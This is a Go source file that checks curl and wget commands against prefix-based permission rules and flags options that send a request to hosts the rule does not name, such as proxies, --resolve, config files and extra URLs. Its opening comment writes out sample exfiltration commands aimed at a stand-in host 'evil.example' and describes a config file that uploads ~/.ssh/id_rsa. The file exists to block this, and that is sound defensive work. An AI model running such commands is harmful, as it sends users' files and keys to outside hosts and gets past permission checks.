package bashparse

import (
	"path"
	"sort"
	"strings"
	"sync"
)

// A prefix rule that names a URL, Bash(curl https://docs.example.com:*),
// approves the arguments that follow it, and curl and wget read more of
// them as destinations than the rule's author meant: a second URL
// (curl https://docs.example.com https://evil.example -d @notes), a proxy
// that receives the whole request (-x evil:8080, --preproxy, --socks5),
// a host or address swapped under the URL's name (--connect-to, --resolve,
// --doh-url, --unix-socket), or a file of further instructions and URLs
// (curl -K FILE, wget -i FILE, --config FILE: a repository can ship one
// that uploads ~/.ssh/id_rsa to its own host). Each sends the call's data
// to a host the rule does not name, so each is a power no prefix rule
// approves (spec §3, "a prefix rule approves arguments, not new powers";
// the spec is silent on destinations, so this fails closed): such a call
// asks unless an exact rule names it. Several URLs of one host, and the
// options that only tune a fetch, stay approved.

// netRouteOptions are, by program, the options that change where a
// request goes or read its instructions from a file: long names without
// dashes (matched also as the unique prefixes getopt accepts) and short
// letters.
var netRouteOptions = sync.OnceValue(func() map[string]struct{ long, short string } {
	return map[string]struct{ long, short string }{
		"curl": {long: " proxy preproxy socks4 socks4a socks5 socks5-hostname proxy1.0 connect-to resolve " +
			"doh-url dns-servers unix-socket abstract-unix-socket config ipfs-gateway alt-svc ", short: "xK"},
		"wget": {long: " input-file base config ", short: "iB"},
	}
})

// netRoutePowers lists the destinations a curl or wget command reaches
// beyond its first URL's host, and the options that route it elsewhere.
func netRoutePowers(inner []Word) []string {
	if len(inner) < 2 {
		return nil
	}
	prog := path.Base(inner[0].Value)
	routes, ok := netRouteOptions()[prog]
	if !ok {
		return nil
	}
	vals := make([]string, len(inner))
	vals[0] = prog
	for i, w := range inner[1:] {
		vals[i+1] = w.Value
	}
	var powers []string
	ended := false
	for _, v := range vals[1:] {
		ended = ended || v == "--"
		if ended || !strings.HasPrefix(v, "--") || len(v) < 4 {
			continue
		}
		name, _, _ := strings.Cut(v[2:], "=")
		if strings.Contains(routes.long, " "+name+" ") || len(name) >= 3 && strings.Contains(routes.long, " "+name) {
			powers = append(powers, prog+" "+v+" sends the request to, or reads it from, a place the URL does not name")
		}
	}
	form, hasOpts := OptionFormOf(vals)
	operands := form.Operands
	if !hasOpts {
		for _, v := range vals[1:] {
			if v != "--" {
				operands = append(operands, v)
			}
		}
	}
	for _, o := range form.Options {
		name, val, _ := strings.Cut(o, "=")
		if len(name) == 2 && name[0] == '-' && strings.IndexByte(routes.short, name[1]) >= 0 {
			powers = append(powers, prog+" "+o+" sends the request to, or reads it from, a place the URL does not name")
		}
		if name == "--url" {
			operands = append(operands, val)
		}
	}
	hosts := map[string]bool{}
	for _, op := range operands {
		hosts[urlHost(op)] = true
	}
	if len(hosts) > 1 {
		names := make([]string, 0, len(hosts))
		for h := range hosts {
			names = append(names, h)
		}
		sort.Strings(names)
		powers = append(powers, prog+" fetches from more than one host: "+strings.Join(names, ", "))
	}
	return powers
}

// urlHost is the host (with its port) a URL operand names, lower-cased; a
// word without a scheme is a host as curl and wget read it.
func urlHost(u string) string {
	if _, rest, ok := strings.Cut(u, "://"); ok {
		u = rest
	}
	if i := strings.IndexAny(u, "/?#"); i >= 0 {
		u = u[:i]
	}
	if i := strings.LastIndexByte(u, '@'); i >= 0 {
		u = u[i+1:]
	}
	return strings.ToLower(u)
}
